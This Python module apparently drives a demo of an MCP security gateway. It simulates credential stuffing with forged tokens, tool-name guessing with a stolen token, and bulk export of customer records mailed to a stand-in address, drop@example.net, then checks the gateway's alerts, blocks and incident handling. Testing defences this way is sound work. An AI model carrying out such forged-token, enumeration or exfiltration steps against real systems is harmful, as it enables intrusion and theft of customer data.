"""The first half: what the attacker does, what the gateway does about it by itself, and who takes command."""

from __future__ import annotations

import asyncio

from airlock.cli.demo import agent
from airlock.cli.demo.evidence import eventually
from airlock.cli.demo.response import acts, attack
from airlock.cli.demo.response.room import PATIENCE, Document, Room
from airlock.core.clock import SYSTEM

LIST = b'{"jsonrpc":"2.0","id":1,"method":"tools/list"}'

GUESSES = 30
NAMES = 30
"""Subjects whose credentials are tried, and tools that are asked for by guessing."""

LOOKS = 6
"""Requests over connections of their own, so that both workers are asked."""


async def quiet(room: Room) -> None:
    """Work as usual: nothing of it is an alert."""
    async with agent.connected(room.site.url, room.clerks["ada"]) as client:
        one = await client.call("customers__customer", number=7)
        mail = await client.call("mail__list_mail")
    for name in ("eve", "vera"):
        async with agent.connected(room.site.url, room.clerks[name]) as client:
            await client.call("customers__customer", number=8)
    room.tell("ada", 'customers__customer {"number": 7}')
    room.tell("customers", one.text)
    room.check("both servers answer", expected=(0, 0), seen=(one.code, mail.code))
    alerts = await room.ask("/api/v1/alerts?state=all")
    about = [each for each in alerts["alerts"] if each["finding"]["group"].get("subject") in room.clerks]
    room.check("nothing of it is an alert", expected=[], seen=about)


async def stuffed(room: Room) -> None:
    """Somebody tries the credentials of many people from one address."""
    room.starts("the first guess")
    async with attack.behind("", attack.GUESSER) as carrier:
        for number in range(GUESSES):
            token = attack.forged(room.site.token(f"victim-{number}", role="clerk"))
            carrier.headers["Authorization"] = f"Bearer {token}"
            await attack.status(carrier, room.site.url, LIST)
    room.tell("attacker", f"{GUESSES} forged tokens of {GUESSES} people, from {attack.GUESSER}")
    await acts.alerted(room, "MCP-002")
    lease = await _lease(room, "ip.block", f"{attack.GUESSER}/32")
    room.tell("airlock", f"{lease['action']} {lease['selector']['cidr']} until {lease['expires_at']}")
    record = (await room.about())["incident"]
    opened = (record["type"], record["status"], record["severity"])
    room.check(
        "an incident is open, without a person",
        expected=("security_incident", "TRIAGE", "P1"),
        seen=opened,
    )
    room.check("the lease is the rule's own", expected="detector", seen=lease["origin"])
    await _everywhere(room, "", attack.GUESSER, 403, "both workers refuse the address")
    room.mark("contained")
    async with agent.connected(room.site.url, room.clerks["ada"]) as client:
        answer = await client.call("customers__customer", number=9)
    room.check("ada works on", expected=0, seen=answer.code)


async def commanded(room: Room) -> None:
    """A person takes command; whoever has to know is told."""
    facts = {
        "business_impact": "None so far: guesses were refused.",
        "affected_users": "30 people whose tokens were guessed at",
        "affected_services": ["sign-in"],
        "ticket_url": "https://tickets.example.com/INC-1",
        "status_page_url": "https://status.example.com/",
    }
    await acts.commanded(room, facts)
    room.mark("people told")


async def enumerated(room: Room) -> None:
    """With a stolen token somebody asks for tools by guessing their names."""
    began = SYSTEM.wall()
    async with attack.behind(room.clerks["eve"], attack.THIEF) as carrier:
        for number in range(NAMES):
            await attack.status(carrier, room.site.url, agent.message(f"customers__admin_{number}"))
    room.tell("attacker", f"{NAMES} names of tools with eve's token, from {attack.THIEF}")
    lease = await _lease(room, "ratelimit.tighten", "eve")
    room.tell("airlock", f"{lease['action']} eve to {lease['selector']['per_token']}")
    room.tell("clock", f"slowed down {SYSTEM.wall() - began:.1f} s after the first name")
    room.check("the lease is the rule's own", expected="detector", seen=lease["origin"])
    for rule in ("MCP-001", "MCP-005"):
        alert = (await room.until(f"{rule} raised an alert", lambda told: told["alerts"], acts.of(rule)))[0]
        acts.said(room, alert)
        await _join(room, alert)
    rules = set((await room.about())["incident"]["rules"])
    room.check("both belong to the incident", expected=True, seen={"MCP-001", "MCP-005"} <= rules)
    async with agent.connected(room.site.url, room.clerks["ada"]) as client:
        answers = [(await client.call("mail__list_mail")).code for _ in range(LOOKS)]
    room.check("ada is as fast as before", expected={0}, seen=set(answers))


async def taken(room: Room) -> None:
    """Data leaves over streams that stay open, and one mail goes out."""
    carrier = attack.behind(room.clerks["vera"], attack.THIEF)
    room.carriers.append(carrier)
    await carrier.post(f"{room.site.url}/mcp", content=agent.message("customers__customer", number=1))
    sent = agent.message("mail__send_mail", to="drop@example.net", text="customer 1: likes lamps")
    for number in range(2):
        session = await attack.opened(carrier, room.site.url)
        stream = attack.Stream(carrier, room.site.url, session=session, tool="customers__export")
        stream.begin()
        room.streams.append(stream)
        room.tell("attacker", f"export {number + 1} of all customers with vera's token, from {attack.THIEF}")
    flowing = await eventually(
        lambda: (all(each.pieces > 3 for each in room.streams), _pieces(room)), within=PATIENCE
    )
    room.check("both streams are open and carry data", expected=True, seen=min(flowing) > 3)
    answer = await agent.by_hand(carrier, room.site.url, sent)
    room.tell("attacker", "mails what was read to drop@example.net")
    room.check("the mail went out", expected=True, seen=agent.served(answer))
    alert = (await room.until("MCP-009 raised an alert", lambda told: told["alerts"], acts.of("MCP-009")))[0]
    acts.said(room, alert)
    await _join(room, alert)
    words = ("is_suspected_breach=true", "business_impact=Records of customers were read and mailed.")
    await room.command("incident", "edit", room.incident, *words)
    record = (await room.about())["incident"]
    room.check("a suspected breach is P0, by its floor", expected="P0", seen=record["severity"])
    still = [stream.ended_at for stream in room.streams]
    room.check("the streams are still open", expected=[None, None], seen=still)


def _pieces(room: Room) -> list[int]:
    return [stream.pieces for stream in room.streams]


async def _join(room: Room, alert: Document) -> None:
    """Let an alert belong to the incident, unless it did so by itself meanwhile."""
    if not alert["incident"]:
        await room.command("alert", "declare", alert["id"], "--incident", room.incident, exits=(0, 1))
    found = (await room.ask(f"/api/v1/alerts/{alert['id']}"))["alert"]
    room.check(f"{alert['finding']['rule']} belongs to it", expected=room.incident, seen=found["incident"])


async def _lease(room: Room, action: str, about: str) -> Document:
    """The lease in force of this action whose selector names somebody."""

    def look(told: Document) -> Document | None:
        found = (each for each in told["leases"] if each["action"] == action)
        return next((each for each in found if about in each["selector"].values()), None)

    return await room.until(f"a lease {action} {about}", look, "/api/v1/leases")


async def _everywhere(room: Room, token: str, address: str, expected: int, fact: str) -> None:
    """Wait until every one of several requests is answered so, whichever worker takes it."""
    deadline = SYSTEM.monotonic() + PATIENCE
    seen: set[int] = set()
    async with attack.behind(token, address) as carrier:
        while SYSTEM.monotonic() < deadline and seen != {expected}:
            seen = {await attack.status(carrier, room.site.url, LIST) for _ in range(LOOKS)}
            await asyncio.sleep(0.05)
    room.check(fact, expected={expected}, seen=seen)
